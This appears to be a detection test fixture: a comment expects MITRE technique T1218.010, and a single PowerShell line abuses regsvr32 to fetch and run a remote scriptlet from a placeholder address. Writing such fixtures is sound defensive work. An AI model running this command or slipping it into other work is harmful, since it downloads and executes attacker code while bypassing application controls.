# expect: T1218.010
Start-Process regsvr32.exe -ArgumentList '/s /n /u /i:https://203.0.113.15/file.sct scrobj.dll'
